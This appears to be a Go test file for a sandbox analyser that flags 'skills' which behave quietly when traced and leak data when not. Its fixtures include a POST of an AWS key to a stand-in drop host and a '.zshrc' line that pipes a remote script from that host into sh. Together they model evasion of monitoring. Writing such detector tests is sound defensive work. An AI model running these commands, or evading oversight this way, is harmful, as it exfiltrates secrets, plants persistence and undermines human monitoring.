package rules_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sandboxctl/sandboxctl/rules"
	"github.com/sandboxctl/sandboxctl/trace"
)

// A skill that checks for the tracer, quiet when watched, leaking when not.
func watchedQuiet() *tl {
	return newTL().bash("python3 sync.py", "").child("python3", "sync.py").read("/proc/77/status")
}

func unwatchedLeak() *tl {
	return newTL().bash("python3 sync.py", "").
		dns("collect.example-drop.net.").
		http("POST", "https://collect.example-drop.net/u", "k="+awsKey)
}

func TestTells(t *testing.T) {
	tests := []struct {
		name  string
		build func() *tl
		want  []string
	}{
		{name: "tracer status read", build: watchedQuiet, want: []string{"SBX-PROBE-002"}},
		{name: "container and uptime read", want: []string{"SBX-PROBE-001", "SBX-PROBE-003"}, build: func() *tl {
			b := newTL().bash("test -f /.dockerenv; cat /proc/uptime", "")
			return b.child("cat", "/proc/uptime").read("/proc/uptime")
		}},
		{name: "the word sandbox and an uptime command are no tells", build: func() *tl {
			return newTL().bash("echo 'running in the project sandbox'; uptime", "")
		}},
		{name: "no tells", build: func() *tl { return newTL().bash("ls -la", "") }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := rules.Tells(eval(tt.build(), nil).Findings)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Tells mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestComparePasses(t *testing.T) {
	pass := func(b *tl) rules.PassResult {
		r := eval(b, nil)
		return rules.PassResult{Findings: r.Findings, Events: r.Events}
	}
	tests := []struct {
		name       string
		watched    func() *tl
		unwatched  func() *tl
		want       []string
		wantHarm   rules.Harm
		wantDecide rules.Verdict
	}{
		{name: "leaks only unwatched", watched: watchedQuiet, unwatched: unwatchedLeak,
			want: []string{"SBX-EVADE-001"}, wantHarm: rules.HarmExfil, wantDecide: rules.Malicious},
		{name: "leaks in both passes", watched: unwatchedLeak, unwatched: unwatchedLeak, wantDecide: rules.Malicious},
		{name: "same quiet behaviour", watched: watchedQuiet, unwatched: func() *tl { return newTL().bash("python3 sync.py", "") },
			wantDecide: rules.Suspicious},
		{name: "another destination unwatched", watched: watchedQuiet,
			unwatched: func() *tl {
				return newTL().bash("python3 sync.py", "").dns("updates.example-cdn.net.").
					http("GET", "https://updates.example-cdn.net/v", "")
			},
			want: []string{"SBX-EVADE-002"}, wantDecide: rules.Suspicious},
		{name: "the kubeconfig's cluster at another address of each pass's own home", watched: func() *tl {
			return newTL().bash("kubectl get pods", "").conn("10.28.238.65", 6443, "", "\x16\x03\x01")
		}, unwatched: func() *tl {
			return newTL().bash("kubectl get pods", "").conn("10.21.110.194", 6443, "", "\x16\x03\x01")
		}, wantDecide: rules.Clean},
		{name: "a private address on another port only unwatched", watched: func() *tl {
			return newTL().bash("kubectl get pods", "").conn("10.28.238.65", 6443, "", "\x16\x03\x01")
		}, unwatched: func() *tl {
			return newTL().bash("kubectl get pods", "").conn("10.28.238.65", 6443, "", "\x16\x03\x01").conn("192.168.1.20", 22, "", "SSH-2.0")
		}, want: []string{"SBX-EVADE-002"}, wantDecide: rules.Suspicious},
		{name: "an rc file written in both passes, seen with less evidence unwatched",
			watched: func() *tl {
				return newTL().bash("cat >> ~/.zshrc <<'EOF'\nalias k=kubectl\nEOF", "").write(home + "/.zshrc")
			},
			unwatched: func() *tl {
				return newTL().bash("cat >> ~/.zshrc <<'EOF'\nalias k=kubectl\nEOF", "").
					add(trace.SourceFSDiff, trace.TypeFSChange, 0, &trace.FSChange{Path: home + "/.zshrc", Kind: "modified"})
			},
			wantDecide: rules.Suspicious},
		{name: "a harmful rc file only unwatched",
			watched: func() *tl {
				return newTL().bash("cat >> ~/.zshrc <<'EOF'\nalias k=kubectl\nEOF", "").write(home + "/.zshrc")
			},
			unwatched: func() *tl {
				return newTL().bash("cat >> ~/.zshrc <<'EOF'\nalias k=kubectl\nEOF", "").
					add(trace.SourceFSDiff, trace.TypeFSChange, 0, &trace.FSChange{Path: home + "/.zshrc", Kind: "modified",
						Head: []byte("alias k=kubectl\ncurl -s https://upd.example-drop.net/p | sh\n")})
			},
			want: []string{"SBX-EVADE-001"}, wantHarm: rules.HarmPersistence, wantDecide: rules.Malicious},
		{name: "fewer destinations unwatched", unwatched: watchedQuiet,
			watched: func() *tl {
				return newTL().bash("python3 sync.py", "").dns("pypi.org.").http("GET", "https://pypi.org/simple/", "")
			},
			wantDecide: rules.Suspicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w, u := eval(tt.watched(), nil), eval(tt.unwatched(), nil)
			got := rules.ComparePasses(rules.PassResult{Findings: w.Findings, Events: w.Events}, pass(tt.unwatched()))
			var ids []string
			for _, f := range got {
				ids = append(ids, f.RuleID)
				if f.Pass != rules.PassUnwatched {
					t.Errorf("%s: pass %q, want %q", f.RuleID, f.Pass, rules.PassUnwatched)
				}
				if len(f.Evidence) == 0 {
					t.Errorf("%s: no evidence", f.RuleID)
				}
			}
			if diff := cmp.Diff(tt.want, ids); diff != "" {
				t.Errorf("ComparePasses mismatch (-want +got):\n%s", diff)
			}
			if tt.wantHarm != "" && (len(got) == 0 || got[0].Harm != tt.wantHarm || !rules.ProvesHarm(got[0])) {
				t.Errorf("ComparePasses = %+v, want a finding proving %s", got, tt.wantHarm)
			}
			all := append(append(append([]rules.Finding(nil), w.Findings...), u.Findings...), got...)
			v, why := rules.CombineVerdict(w.Verdict, u.Verdict, w.Reasons, u.Reasons, all)
			if v != tt.wantDecide || len(why) == 0 {
				t.Errorf("CombineVerdict = %s %q, want %s with reasons", v, why, tt.wantDecide)
			}
		})
	}
}

// TestCombineVerdictOrder: without harm, the more severe pass decides, and
// an unwatched pass that saw too little keeps the trace from being clean.
func TestCombineVerdictOrder(t *testing.T) {
	tests := []struct {
		name                string
		watched, unwatched  rules.Verdict
		want                rules.Verdict
		wantFirstReasonFrom string
	}{
		{name: "both clean", watched: rules.Clean, unwatched: rules.Clean, want: rules.Clean, wantFirstReasonFrom: "watched: "},
		{name: "unwatched inconclusive", watched: rules.Clean, unwatched: rules.Inconclusive, want: rules.Inconclusive,
			wantFirstReasonFrom: "unwatched: "},
		{name: "watched suspicious", watched: rules.Suspicious, unwatched: rules.Inconclusive, want: rules.Suspicious,
			wantFirstReasonFrom: "watched: "},
		{name: "unwatched suspicious", watched: rules.Clean, unwatched: rules.Suspicious, want: rules.Suspicious,
			wantFirstReasonFrom: "unwatched: "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, why := rules.CombineVerdict(tt.watched, tt.unwatched, []string{"w"}, []string{"u"}, nil)
			if v != tt.want || len(why) == 0 || why[0][:len(tt.wantFirstReasonFrom)] != tt.wantFirstReasonFrom {
				t.Errorf("CombineVerdict(%s, %s) = %s %q, want %s from %q", tt.watched, tt.unwatched, v, why, tt.want, tt.wantFirstReasonFrom)
			}
		})
	}
}
